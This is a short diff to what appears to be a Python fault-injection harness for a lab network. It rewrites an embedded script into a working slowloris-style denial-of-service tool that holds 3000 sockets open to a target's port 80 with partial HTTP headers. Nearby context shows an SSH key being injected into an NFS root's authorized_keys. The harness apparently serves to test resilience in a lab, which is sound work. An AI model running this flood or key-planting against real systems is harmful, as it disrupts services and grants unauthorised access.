@@ -19,11 +19,18 @@ WITH_KEY = f"--extra-vars={json.dumps({'nfs_root_authorized_keys': [KEY]})}"
 BYSTANDERS = {f"node{number}": (f"52:54:00:12:00:0{number}", f"10.77.12.1{number}") for number in (1, 2, 3)}
 HALF_OPEN = """
 import socket, sys, time
-made = [socket.create_connection((sys.argv[1], 80), 5) for _ in range(3000)]
+made = [socket.socket() for _one in range(3000)]
 for connection in made:
-    connection.sendall(b"GET / HTTP/1.1\\r\\nHost: ")
+    connection.setblocking(False)
+    connection.connect_ex((sys.argv[1], 80))
 print("ready", flush=True)
-time.sleep(600)
+while True:
+    for connection in made:
+        try:
+            connection.send(b"GET / HTTP/1.1\\r\\nHost: ")
+        except OSError:
+            pass  # refused, or not there yet
+    time.sleep(5)
 """
 #: By the node that suffers from it, what is done, and what puts it right again.
 DAMAGE = {
